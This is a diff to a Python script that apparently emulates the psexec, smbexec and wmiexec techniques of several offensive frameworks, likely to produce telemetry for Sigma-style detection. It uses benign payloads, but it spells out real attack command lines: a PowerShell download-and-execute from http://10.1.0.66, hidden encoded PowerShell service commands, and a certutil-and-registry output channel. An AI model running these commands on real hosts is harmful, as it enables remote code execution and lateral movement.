@@ -2,8 +2,8 @@
 
 usage: published.py WHAT HOST [PASSWORD]
 Sources: rapid7/metasploit-framework lib/msf/core/exploit/remote/smb/client/psexec.rb; Pennyw0rth/NetExec nxc/protocols/smb/{smbexec,
-atexec,wmiexec}.py and nxc/protocols/wmi/wmiexec.py; BishopFox/sliver client/command/exec/psexec.go; byt3bl33d3r/CrackMapExec cme/helpers/powershell.py; for Cobalt Strike, which is closed,
-the rules of SigmaHQ/sigma that name what its psexec and psexec_psh leave.
+atexec,wmiexec}.py and nxc/protocols/wmi/wmiexec.py; BishopFox/sliver client/command/exec/psexec.go; byt3bl33d3r/CrackMapExec
+cme/helpers/powershell.py; for Cobalt Strike, which is closed, the rules of SigmaHQ/sigma that name what its psexec and psexec_psh leave.
 """
 import base64
 import io
@@ -19,6 +19,10 @@ password = sys.argv[3] if len(sys.argv) > 3 else 'Passw0rd!'
 
 # A PE image of headers alone.
 PROGRAM = b'MZ' + b'\0' * 58 + b'\x40\0\0\0' + b'PE\0\0' + b'\x64\x86\1\0' + b'\0' * 12 + b'\xf0\0\x22\0' + b'\x0b\2' + b'\0' * 420
+
+
+def encoded(script):
+    return base64.b64encode(script.encode('utf-16le')).decode()
 
 
 def pipe(name, interface):
@@ -53,7 +57,7 @@ def service(name, shown, path, drop=None, output=None, delete=()):
 def cobalt_strike():
     service('b3c2f1a', 'b3c2f1a', '\\\\127.0.0.1\\ADMIN$\\b3c2f1a.exe', drop='b3c2f1a.exe', delete=[('ADMIN$', 'b3c2f1a.exe')])
     service('4d1a7c2', '4d1a7c2', '%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand '
-            + base64.b64encode('Start-Sleep -Seconds 1; Get-Date'.encode('utf-16le')).decode())
+            + encoded('Start-Sleep -Seconds 1; Get-Date'))
 
 
 def metasploit():
@@ -66,8 +70,8 @@ def metasploit():
 
 
 def netexec():
-    line = ('%COMSPEC% /Q /c echo ipconfig ^> \\\\%COMPUTERNAME%\\C$\\kRtYpL 2^>^&1 > %TEMP%\\qWmNbV.bat & %COMSPEC% /Q /c %TEMP%\\qWmNbV.bat'
-            ' & %COMSPEC% /Q /c del %TEMP%\\qWmNbV.bat')
+    line = ('%COMSPEC% /Q /c echo ipconfig ^> \\\\%COMPUTERNAME%\\C$\\kRtYpL 2^>^&1 > %TEMP%\\qWmNbV.bat'
+            ' & %COMSPEC% /Q /c %TEMP%\\qWmNbV.bat & %COMSPEC% /Q /c del %TEMP%\\qWmNbV.bat')
     service('aBcDeFgHiJ', 'aBcDeFgHiJ', line, output=('C$', 'kRtYpL'), delete=[('C$', 'kRtYpL')])
     line = line.replace('%COMPUTERNAME%', '127.0.0.1').replace('kRtYpL', 'zXcVbN')
     service('kLmNoPqRsT', 'kLmNoPqRsT', line, output=('C$', 'zXcVbN'), delete=[('C$', 'zXcVbN')])
@@ -76,6 +80,8 @@ def netexec():
 def crackmapexec():
     line = "powershell.exe -exec bypass -noni -nop -w 1 -C \"IEX (New-Object Net.WebClient).DownloadString('http://10.1.0.66/a.ps1')\""
     service('uIoPaSdFgH', 'uIoPaSdFgH', '%COMSPEC% /Q /c ' + line)
+    line = 'powershell.exe -noni -nop -w 1 -enc ' + encoded('Start-Sleep -Seconds 1; Get-Date')
+    service('jKlZxCvBnM', 'jKlZxCvBnM', '%COMSPEC% /Q /c ' + line)
 
 
 def sliver():
@@ -134,11 +140,12 @@ def netexec_smb_wmi():
 
 def netexec_wmi():
     connection, services, process = process_class()
-    result, encoded = ('C:\\windows\\temp\\%s.txt' % name for name in ('3f1d2a4e-8b6c-4f0a-9d57-6c1e2b7a9f30', 'a7c4e1b9-52d8-4a63-8f1e-0d9b3c6e7a21'))
+    result, carried = ('C:\\windows\\temp\\%s.txt' % name for name in (
+        '3f1d2a4e-8b6c-4f0a-9d57-6c1e2b7a9f30', 'a7c4e1b9-52d8-4a63-8f1e-0d9b3c6e7a21'))
     key, value = 'Software\\Classes\\xWqLpZ', '5b0e9c72-1f4a-4d83-b6e9-27a8c0d1f3e4'
-    process.Create('cmd.exe /Q /c  ipconfig 1> ' + result + ' 2>&1 && certutil -encodehex -f ' + result + ' ' + encoded +
-                   ' 0x40000001 && for /F "usebackq" %G in ("' + encoded + '") do reg add HKLM\\' + key + ' /v ' + value +
-                   ' /t REG_SZ /d "%G" /f && del /q /f /s ' + result + ' ' + encoded, 'C:\\', None)
+    process.Create('cmd.exe /Q /c  ipconfig 1> ' + result + ' 2>&1 && certutil -encodehex -f ' + result + ' ' + carried +
+                   ' 0x40000001 && for /F "usebackq" %G in ("' + carried + '") do reg add HKLM\\' + key + ' /v ' + value +
+                   ' /t REG_SZ /d "%G" /f && del /q /f /s ' + result + ' ' + carried, 'C:\\', None)
     registry = services.GetObject('StdRegProv')[0].SpawnInstance()
     print(registry.GetStringValue(2147483650, key, value).sValue)
     registry.DeleteKey(2147483650, key)
